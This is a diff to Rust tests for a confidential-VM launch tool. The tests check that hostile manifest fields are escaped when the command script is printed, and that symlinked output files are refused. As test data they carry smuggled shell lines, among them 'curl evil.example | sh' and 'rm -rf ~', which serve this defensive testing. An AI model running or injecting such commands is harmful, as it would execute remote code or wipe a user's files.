@@ -54,7 +54,7 @@ fn manifest_with_shapes() -> serde_json::Value {
                 {"qemu_args": ["-smp", "1"], "qemu_notes": ["add the `-cpu` model"]}
             ],
             "tdx": [
-                {"label": "td-8g", "qemu_command": "qemu-system-x86_64 -object tdx-guest,id=tdx0 -m 8G"}
+                {"label": "td-8g", "qemu_command": ["qemu-system-x86_64", "-object", "tdx-guest,id=tdx0", "-m", "8G"]}
             ]
         }
     })
@@ -105,6 +105,55 @@ fn print_command_lists_the_boot_and_every_measured_shape() {
     );
     assert_eq!(stdout(&out), expected);
     assert_eq!(stderr(&out), "");
+}
+
+/// Issue 11, item 4: names, notes and arguments from a hostile manifest cannot add lines to the printed script.
+#[test]
+fn issue11_print_command_escapes_what_the_manifest_says() {
+    let dir = fake_output_dir();
+    let manifest = serde_json::json!({
+        "schema": "https://cvmforge.dev/manifest/v1",
+        "measurements": {
+            "snp": [
+                {"name": "x)\ncurl evil.example | sh\n# (", "qemu_notes": ["ok\rrm -rf ~\u{1b}[2K"],
+                 "qemu_args": ["-append", "a\ntouch /tmp/pwned"]},
+            ],
+            "tdx": [{"qemu_command": "true\ntouch /tmp/pwned"}]
+        }
+    });
+    write(dir.path(), "manifest.json", manifest.to_string().as_bytes());
+    let out = print_command(dir.path(), &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = stdout(&out);
+    let shapes: Vec<&str> = text.lines().skip_while(|l| !l.starts_with("# Confidential")).collect();
+    assert_eq!(
+        shapes,
+        [
+            "# Confidential launches of the measured shapes (run in the output directory):",
+            "# SEV-SNP shape snp[0] (x)\\ncurl evil.example | sh\\n# ():",
+            "#   note: ok\\rrm -rf ~\\u{1b}[2K",
+            "#   not shown: an argument holds a control character; see `--json`",
+            "# TDX shape tdx[0]:",
+            "#   no QEMU command recorded for this shape",
+        ]
+    );
+}
+
+/// Issue 11, item 5: a member of an output directory that is a symlink (to a host file) is refused, not read or booted.
+#[test]
+fn issue11_rejects_symlinked_members() {
+    for member in ["cmdline", "kernel", "initrd.img", "manifest.json"] {
+        let dir = fake_output_dir();
+        let secret = dir.path().join("secret");
+        write(dir.path(), "secret", b"root:$6$hash");
+        write(dir.path(), "manifest.json", br#"{"schema": "https://cvmforge.dev/manifest/v1"}"#);
+        fs_err::remove_file(dir.path().join(member)).unwrap();
+        std::os::unix::fs::symlink(&secret, dir.path().join(member)).unwrap();
+        let out = print_command(dir.path(), &[]);
+        assert_eq!(out.status.code(), Some(1), "{member}: {}", stdout(&out));
+        assert!(stderr(&out).contains("is a symbolic link"), "{member}: {}", stderr(&out));
+        assert!(!stdout(&out).contains("root:"), "{member}");
+    }
 }
 
 #[test]
